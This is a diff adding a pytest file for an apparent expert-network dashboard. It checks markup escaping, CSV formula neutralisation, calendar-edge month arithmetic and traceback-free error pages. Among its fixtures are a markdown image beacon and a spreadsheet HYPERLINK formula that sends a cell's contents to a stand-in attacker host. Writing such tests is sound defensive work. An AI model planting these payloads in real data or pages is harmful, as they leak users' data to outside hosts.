@@ -1,0 +1,114 @@
+"""Nothing from the data runs as markup or as a spreadsheet formula, and no viewer sees a
+traceback (a page that cannot compute says so in one sentence, with an error reference)."""
+
+import csv
+import io
+import json
+import shutil
+import subprocess
+import sys
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from apptest_harness import app_env, no_exception, signed_in, through_link  # noqa: F401 (app_env is a fixture)
+from conftest import FIXTURE_EXPORT
+from expertnet import breakdowns, share_links
+from expertnet.filters import Filters, add_months, month_range
+from expertnet.load import ingest
+from expertnet.ui.text import md
+from expertnet.warehouse import open_read_only
+
+ROOT = Path(__file__).resolve().parents[1]
+BEACON = "![x](http://host/beacon.png)"
+FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"open")'
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    """The fixture export with one expert's domain an image and another's name a formula: both
+    pass the contract (a lower-case domain, a name is any text)."""
+    folder = tmp_path_factory.mktemp("hostile-export")
+    for path in FIXTURE_EXPORT.glob("*.csv"):
+        shutil.copy(path, folder / path.name)
+    rows = list(csv.DictReader((folder / "experts.csv").open()))
+    rows[0]["domain"] = BEACON
+    rows[1]["full_name"] = FORMULA
+    with (folder / "experts.csv").open("w", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    db = tmp_path_factory.mktemp("hostile-db") / "warehouse.duckdb"
+    ingest(folder, db)
+    return db
+
+
+def test_md_escapes_every_markup_character():
+    assert md(BEACON) == r"\!\[x\]\(http\://host/beacon\.png\)"
+    assert md(":red[alert] $x$ <b>b</b> *em* `code` #h\nnext") == \
+        r"\:red\[alert\] \$x\$ \<b\>b\<\/b\> \*em\* \`code\` \#h next".replace(r"\/", "/")
+
+
+def test_a_domain_that_is_markdown_is_shown_as_text(hostile_db, monkeypatch, app_env):
+    monkeypatch.setenv("EXPERTNET_DB", str(hostile_db))
+    at = signed_in(domain=BEACON).run()
+    no_exception(at)
+    caption = at.main.caption[0].value
+    assert r"domain \!\[x\]\(http\://host/beacon\.png\)" in caption
+    assert BEACON not in caption
+    # a share link locked to it, and its investor's sidebar
+    link, token, _ = share_links.create_link("Ann ![y](http://host/b.png)", 7, "f@example.com",
+                                             locked_domain=None)
+    at = through_link(token).run()
+    no_exception(at)
+    banner = [i.value for i in at.info][0]
+    assert r"Shared with Ann \!\[y\]\(http\://host/b\.png\)" in banner
+
+
+def test_csv_downloads_neutralise_formulas_and_keep_numbers(hostile_db):
+    with open_read_only(str(hostile_db)) as con:
+        data = breakdowns.experts_csv(con, date(2024, 1, 1), date(2025, 6, 1), active_only=False)
+    rows = list(csv.DictReader(io.StringIO(data.decode())))
+    names = {r["full_name"] for r in rows}
+    assert "'" + FORMULA in names and FORMULA not in names
+    assert all(not r[c].startswith(("=", "+", "@")) for r in rows for c in r)
+    # numbers stay numbers: no apostrophe in front of a figure
+    assert all(r["hours"].replace(".", "", 1).isdigit() for r in rows)
+
+
+def test_month_arithmetic_never_raises_at_the_edge_of_the_calendar():
+    assert add_months(date(9999, 12, 1), 1) == date(9999, 12, 1)
+    assert add_months(date(1, 1, 1), -13) == date(1, 1, 1)
+    assert add_months(date(2025, 1, 1), -1) == date(2024, 12, 1)
+    assert month_range(date(9999, 11, 1), date(9999, 12, 1)) == [date(9999, 11, 1), date(9999, 12, 1)]
+
+
+def test_kpis_of_an_extreme_month_print_no_traceback(fixture_db):
+    done = subprocess.run([sys.executable, "-m", "expertnet", "kpis", "--db", str(fixture_db), "--month", "0001-02",
+                           "--format", "json"], cwd=ROOT, capture_output=True, text=True, timeout=120)
+    assert "Traceback" not in done.stderr
+    assert done.returncode == 0, done.stderr
+    values = json.loads(done.stdout)          # strict JSON: no NaN or Infinity
+    assert values["month"] == "0001-02" and values["experts_total"] == 0
+
+
+def test_a_broken_app_state_shows_a_sentence_and_a_reference_never_a_traceback(app_env):
+    _link, token, _url = share_links.create_link("Ann", 7, "f@example.com")
+    (app_env / "app_state.sqlite3").write_bytes(b"this is not a database" * 100)
+    # a founder (signed in with the identity provider) opens Share, which reads the app state:
+    # a sentence that says what is wrong, and a reference, in place of the page
+    founder = signed_in().run()
+    founder.switch_page("pages/share.py").run()
+    assert not founder.exception
+    [error] = [e.value for e in founder.error]
+    assert error.startswith("This page could not be shown. cannot open the app-state database") or \
+        error.startswith("This page could not be shown. the app-state database at")
+    assert "Error reference: " in error and "Traceback" not in error
+    assert founder.sidebar.select_slider, "the rest of the dashboard (the sidebar) keeps working"
+    # an investor (whose link cannot be looked up) gets the sentence, not the path nor the words
+    investor = through_link(token).run()
+    assert not investor.exception
+    [error] = [e.value for e in investor.error]
+    assert str(app_env) not in error and "database" not in error
+    assert error.startswith("This page could not be shown. Error reference: ")
